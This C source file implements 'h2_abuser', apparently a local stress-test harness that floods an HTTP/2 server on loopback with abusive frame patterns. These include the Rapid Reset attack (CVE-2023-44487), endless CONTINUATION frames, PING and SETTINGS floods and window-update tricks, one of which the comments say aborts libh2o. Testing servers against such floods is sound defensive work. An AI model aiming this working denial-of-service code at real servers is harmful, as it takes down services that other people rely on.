/*
 * h2_abuser: HTTP/2 connections (RFC 9113, cleartext with prior knowledge, or TLS) that do what no honest
 * client does.
 * links: -lssl -lcrypto
 *
 *   h2_abuser --port 7080 --attack resets --connections 4 --seconds 2
 *
 *   --attack NAME     what to send without end:
 *     resets          a request, and its RST_STREAM at once (CVE-2023-44487)
 *     pings, settings frames that have to be answered; settings change the window of every stream
 *     windows         WINDOW_UPDATE of the connection, by nothing that matters
 *     priorities      PRIORITY of streams that do not exist
 *     continuations   a request whose header never ends, in empty CONTINUATION frames
 *     bodies          DATA for a request that is over
 *     unknown         frames of a type that the server does not know (PRIORITY_UPDATE, RFC 9218)
 *     requests        requests that are answered, as many as possible
 *     late-windows    answers that use their window up to the last byte, and then WINDOW_UPDATE for them
 *                     while they are stuck in TCP (aborts libh2o 2.2.5)
 *     nothing         one request, and then silence; with --window 0 its answer cannot even begin
 *     crowd           the same with many requests; the connection's own window is wide
 *   --path PATH       of the requests (/healthz);     --window N     SETTINGS_INITIAL_WINDOW_SIZE
 *                     a # at its end is the number of the stream
 *   --connections N   how many (1)                    --address A    where they come from (127.0.0.1)
 *   --seconds N       for how long (2)                --deaf         read nothing
 *   --requests N      of a crowd (100, as many as     --tls          any certificate will do
 *                     a connection may have open)
 *   --rate N          a crowd's window is opened by N bytes a second instead: an honest client that reads
 *                     slowly, and ends when it has all answers, or --enough N bytes of them
 *
 * Prints `open` when all are connected, and at the end `sent=BYTES received=BYTES finished=N cut=N`: how many
 * bytes the server took, how many of DATA came, how many answers to their end, and how many of the connections
 * the server ended. One thread, poll().
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { FRAME_HEAD = 9, OUTPUT_SIZE = 64 << 10, DEAF_BUFFER = 4096, STREAMS_MAX = 100 };

enum frame_type {
	DATA = 0,
	HEADERS = 1,
	PRIORITY = 2,
	RST_STREAM = 3,
	SETTINGS = 4,
	PING = 6,
	WINDOW_UPDATE = 8,
	CONTINUATION = 9,
	PRIORITY_UPDATE = 16,
};
enum { END_STREAM = 1, END_HEADERS = 4, SETTING_WINDOW = 4, ERROR_CANCEL = 8 };

struct connection {
	int fd;   /* -1: ended */
	SSL *ssl; /* NULL: cleartext */
	uint32_t next_stream;
	uint32_t round;
	uint64_t received;              /* bytes of DATA */
	int finished;                   /* answers */
	double window;                  /* of the connection: opened so far */
	unsigned char head[FRAME_HEAD]; /* of the frame that comes */
	size_t head_size, payload_left;
	size_t size, sent; /* of output */
	unsigned char output[OUTPUT_SIZE];
};

static struct {
	int port, connection_count;
	double seconds;
	const char *attack, *path, *address;
	long window;
	int requests;
	double rate;
	uint64_t enough;
	bool deaf, tls;
} options = {.connection_count = 1,
			 .seconds = 2,
			 .path = "/healthz",
			 .address = "127.0.0.1",
			 .window = -1,
			 .requests = STREAMS_MAX,
			 .enough = UINT64_MAX};

static double now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec + time.tv_nsec / 1e9;
}

/* ---- frames */
static void put(struct connection *to, const void *bytes, size_t size)
{
	memcpy(to->output + to->size, bytes, size);
	to->size += size;
}

static void put_number(struct connection *to, uint32_t value, int bytes)
{
	for (int shift = (bytes - 1) * 8; shift >= 0; shift -= 8)
		to->output[to->size++] = (unsigned char)(value >> shift);
}

static void put_head(struct connection *to, size_t size, enum frame_type type, int flags, uint32_t stream)
{
	put_number(to, (uint32_t)size, 3);
	put_number(to, type, 1);
	put_number(to, (uint32_t)flags, 1);
	put_number(to, stream, 4);
}

/* GET, as HPACK (RFC 7541) has it: two entries of the static table, two literals that are not indexed. */
static void put_request(struct connection *to, uint32_t stream, int flags)
{
	char numbered[128];
	size_t path = strlen(options.path);
	bool is_numbered = options.path[path - 1] == '#';
	if (is_numbered)
		path = (size_t)snprintf(numbered, sizeof(numbered), "%.*s%u", (int)path - 1, options.path, stream);
	put_head(to, 2 + 2 + path + 2 + 1, HEADERS, flags, stream);
	put(to, "\x82\x86\x04", 3);
	put_number(to, (uint32_t)path, 1);
	put(to, is_numbered ? numbered : options.path, path);
	put(to, "\x01\x01x", 3);
}

static void put_window(struct connection *to, uint32_t stream, uint32_t increment)
{
	put_head(to, 4, WINDOW_UPDATE, 0, stream);
	put_number(to, increment, 4);
}

static void put_setting(struct connection *to, int name, uint32_t value)
{
	put_head(to, 6, SETTINGS, 0, 0);
	put_number(to, (uint32_t)name, 2);
	put_number(to, value, 4);
}

static uint32_t next_stream(struct connection *connection)
{
	connection->next_stream += 2;
	return connection->next_stream - 2;
}

/* ---- attacks: each appends one round */
static void resets(struct connection *to)
{
	uint32_t stream = next_stream(to);
	put_request(to, stream, END_STREAM | END_HEADERS);
	put_head(to, 4, RST_STREAM, 0, stream);
	put_number(to, ERROR_CANCEL, 4);
}

static void pings(struct connection *to)
{
	put_head(to, 8, PING, 0, 0);
	put(to, "pingping", 8);
}

static void settings(struct connection *to)
{
	put_setting(to, SETTING_WINDOW, to->round & 1 ? 65535 : 1);
}

static void windows(struct connection *to)
{
	put_window(to, 0, 1);
}

static void priorities(struct connection *to)
{
	put_head(to, 5, PRIORITY, 0, 1 + 2 * (to->round % 8));
	put_number(to, 0, 4);
	put_number(to, to->round & 255, 1);
}

static void continuations(struct connection *to)
{
	if (to->round == 0)
		put_request(to, next_stream(to), END_STREAM);
	put_head(to, 0, CONTINUATION, 0, 1);
}

static void bodies(struct connection *to)
{
	if (to->round == 0)
		put_request(to, next_stream(to), END_STREAM | END_HEADERS);
	put_head(to, 1, DATA, 0, 1);
	put(to, "x", 1);
}

static void unknown(struct connection *to)
{
	put_head(to, 0, PRIORITY_UPDATE, 0, 0);
}

static void requests(struct connection *to)
{
	put_request(to, next_stream(to), END_STREAM | END_HEADERS);
}

static void crowd(struct connection *to)
{
	if (options.rate == 0)
		put_window(to, 0, 1 << 30);
	for (int i = 0; i < options.requests; i++)
		requests(to);
}

/* Some 90 requests fit into one read of the server, which answers all of them with one write: what follows
 * is for the requests of the read before. */
static void late_windows(struct connection *to)
{
	uint32_t stream = next_stream(to);
	put_request(to, stream, END_STREAM | END_HEADERS);
	for (uint32_t back = 200 + 2 * (to->round & 1); back < 400; back += 4) {
		if (stream > back)
			put_window(to, stream - back, 1);
	}
}

static const struct attack {
	const char *name;
	void (*round)(struct connection *to);
	bool once;
} attacks[] = {
	{"resets", resets, false},         {"pings", pings, false},
	{"settings", settings, false},     {"windows", windows, false},
	{"priorities", priorities, false}, {"continuations", continuations, false},
	{"bodies", bodies, false},         {"unknown", unknown, false},
	{"requests", requests, false},     {"late-windows", late_windows, false},
	{"nothing", requests, true},       {"crowd", crowd, true},
};

static const struct attack *find_attack(const char *name)
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		if (strcmp(attacks[i].name, name) == 0)
			return &attacks[i];
	}
	fprintf(stderr, "h2_abuser: no attack is called %s\n", name);
	exit(2);
}

/* ---- connections: like read(2) and write(2), also over TLS */
static ssize_t transfer_result(const struct connection *connection, int result)
{
	int error = SSL_get_error(connection->ssl, result);
	if (result > 0)
		return result;
	errno = error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE ? EAGAIN : ECONNRESET;
	return -1;
}

static ssize_t receive(const struct connection *connection, void *bytes, size_t size)
{
	ERR_clear_error(); /* of another connection, which SSL_get_error() would take for one of this */
	return connection->ssl == NULL ? read(connection->fd, bytes, size)
								   : transfer_result(connection, SSL_read(connection->ssl, bytes, (int)size));
}

static ssize_t transmit(const struct connection *connection, const void *bytes, size_t size)
{
	ERR_clear_error();
	return connection->ssl == NULL
			   ? write(connection->fd, bytes, size)
			   : transfer_result(connection, SSL_write(connection->ssl, bytes, (int)size));
}

static void connection_close(struct connection *connection)
{
	close(connection->fd);
	connection->fd = -1;
}

static void start_tls(struct connection *connection)
{
	static SSL_CTX *context;
	if (context == NULL) {
		context = SSL_CTX_new(TLS_client_method());
		SSL_CTX_set_alpn_protos(context, (const unsigned char *)"\2h2", 3);
		SSL_CTX_set_mode(context, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
	}
	connection->ssl = SSL_new(context);
	SSL_set_fd(connection->ssl, connection->fd);
	if (SSL_connect(connection->ssl) != 1) {
		fprintf(stderr, "h2_abuser: no TLS\n");
		exit(2);
	}
}

static void connection_open(struct connection *connection)
{
	struct sockaddr_in from = {.sin_family = AF_INET};
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)options.port)};
	int small = DEAF_BUFFER;
	inet_pton(AF_INET, options.address, &from.sin_addr);
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	connection->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (options.deaf)
		setsockopt(connection->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	if (bind(connection->fd, (struct sockaddr *)&from, sizeof(from)) != 0 ||
		connect(connection->fd, (struct sockaddr *)&to, sizeof(to)) != 0) {
		perror("h2_abuser");
		exit(2);
	}
	if (options.tls)
		start_tls(connection);
	fcntl(connection->fd, F_SETFL, O_NONBLOCK);
	connection->next_stream = 1;
	put(connection, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
	if (options.window >= 0)
		put_setting(connection, SETTING_WINDOW, (uint32_t)options.window);
	else
		put_head(connection, 0, SETTINGS, 0, 0);
}

static bool has_output(const struct connection *connection, const struct attack *attack)
{
	return connection->sent < connection->size || !attack->once || connection->round == 0;
}

static void prepare_output(struct connection *connection, const struct attack *attack)
{
	connection->sent = connection->size = 0;
	do {
		attack->round(connection);
		connection->round++;
	} while (!attack->once && connection->size < OUTPUT_SIZE - 1024);
}

/* Returns the bytes that were taken. */
static uint64_t connection_write(struct connection *connection, const struct attack *attack)
{
	if (connection->sent == connection->size)
		prepare_output(connection, attack);
	ssize_t taken =
		transmit(connection, connection->output + connection->sent, connection->size - connection->sent);
	if (taken < 0 && errno != EAGAIN)
		connection_close(connection);
	connection->sent += taken > 0 ? (size_t)taken : 0;
	return taken > 0 ? (uint64_t)taken : 0;
}

static void take_head(struct connection *connection)
{
	const unsigned char *head = connection->head;

	connection->head_size = 0;
	connection->payload_left = (size_t)head[0] << 16 | (size_t)head[1] << 8 | head[2];
	if (head[3] == DATA)
		connection->received += connection->payload_left;
	if ((head[3] == DATA || head[3] == HEADERS) && (head[4] & END_STREAM) != 0)
		connection->finished++;
}

static void take(struct connection *connection, const unsigned char *bytes, size_t size)
{
	while (size > 0) {
		size_t taken = connection->payload_left < size ? connection->payload_left : size;
		connection->payload_left -= taken;
		bytes += taken;
		size -= taken;
		if (size > 0) {
			connection->head[connection->head_size++] = *bytes++;
			size--;
		}
		if (connection->head_size == FRAME_HEAD)
			take_head(connection);
	}
}

static void connection_read(struct connection *connection)
{
	static unsigned char bytes[1 << 16];
	ssize_t size = receive(connection, bytes, sizeof(bytes));
	if (size == 0 || (size < 0 && errno != EAGAIN))
		connection_close(connection);
	else if (size > 0)
		take(connection, bytes, (size_t)size);
}

/* Opens the window by what is due, once the output is empty, and fifty times a second at the most: a byte at a
 * time would be a flood, and the server sends each by itself. */
static void keep_rate(struct connection *connection, double seconds)
{
	double due = options.rate * seconds - connection->window;
	if (connection->round == 0 || connection->sent < connection->size || due < 1 || due < options.rate / 50)
		return;
	connection->sent = connection->size = 0;
	put_window(connection, 0, (uint32_t)due);
	connection->window += (uint32_t)due;
}

/* Whether there is something to wait for. */
static bool is_open(const struct connection *connection)
{
	bool has_all = connection->finished == options.requests || connection->received >= options.enough;
	return connection->fd >= 0 && !(has_all && options.rate > 0);
}

static uint64_t run(struct connection *connections, const struct attack *attack)
{
	struct pollfd *fds = calloc((size_t)options.connection_count, sizeof(*fds));
	double begin = now();
	uint64_t sent = 0;
	int open = options.connection_count;
	while (open > 0 && now() < begin + options.seconds) {
		open = 0;
		for (int i = 0; i < options.connection_count; i++) {
			keep_rate(&connections[i], now() - begin);
			bool writes = has_output(&connections[i], attack);
			fds[i].fd = connections[i].fd;
			fds[i].events = (short)((writes ? POLLOUT : 0) | (options.deaf ? 0 : POLLIN));
			open += is_open(&connections[i]);
		}
		poll(fds, (nfds_t)options.connection_count, options.rate > 0 ? 10 : 100);
		for (int i = 0; i < options.connection_count; i++) {
			if (connections[i].fd >= 0 && (fds[i].revents & (POLLIN | POLLHUP | POLLERR)) != 0)
				connection_read(&connections[i]);
			if (connections[i].fd >= 0 && (fds[i].revents & POLLOUT) != 0)
				sent += connection_write(&connections[i], attack);
		}
	}
	free(fds);
	return sent;
}

static void parse_options(int argc, char **argv)
{
	static const struct option known[] = {
		{"port", required_argument, NULL, 'p'},
		{"attack", required_argument, NULL, 'a'},
		{"path", required_argument, NULL, 'P'},
		{"window", required_argument, NULL, 'w'},
		{"connections", required_argument, NULL, 'c'},
		{"address", required_argument, NULL, 'A'},
		{"seconds", required_argument, NULL, 's'},
		{"requests", required_argument, NULL, 'r'},
		{"rate", required_argument, NULL, 'R'},
		{"enough", required_argument, NULL, 'e'},
		{"deaf", no_argument, NULL, 'd'},
		{"tls", no_argument, NULL, 't'},
		{0},
	};
	int option;
	while ((option = getopt_long(argc, argv, "", known, NULL)) != -1) {
		switch (option) {
		case 'p':
			options.port = atoi(optarg);
			break;
		case 'a':
			options.attack = optarg;
			break;
		case 'P':
			options.path = optarg;
			break;
		case 'w':
			options.window = atol(optarg);
			break;
		case 'c':
			options.connection_count = atoi(optarg);
			break;
		case 'A':
			options.address = optarg;
			break;
		case 's':
			options.seconds = atof(optarg);
			break;
		case 'r':
			options.requests = atoi(optarg);
			break;
		case 'R':
			options.rate = atof(optarg);
			break;
		case 'e':
			options.enough = strtoull(optarg, NULL, 10);
			break;
		case 'd':
			options.deaf = true;
			break;
		case 't':
			options.tls = true;
			break;
		default:
			exit(2);
		}
	}
	if (options.port <= 0 || options.attack == NULL || options.connection_count <= 0 ||
		options.requests > STREAMS_MAX || strlen(options.path) > 100) {
		fprintf(stderr, "usage: h2_abuser --port N --attack NAME (see the head of h2_abuser.c)\n");
		exit(2);
	}
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	signal(SIGPIPE, SIG_IGN);
	const struct attack *attack = find_attack(options.attack);
	struct connection *connections = calloc((size_t)options.connection_count, sizeof(*connections));
	if (connections == NULL)
		return 2;
	for (int i = 0; i < options.connection_count; i++)
		connection_open(&connections[i]);
	puts("open");
	fflush(stdout);
	uint64_t sent = run(connections, attack);
	uint64_t received = 0;
	int finished = 0, cut = 0;
	for (int i = 0; i < options.connection_count; i++) {
		received += connections[i].received;
		finished += connections[i].finished;
		cut += connections[i].fd < 0;
	}
	printf("sent=%" PRIu64 " received=%" PRIu64 " finished=%d cut=%d\n", sent, received, finished, cut);
	return 0;
}
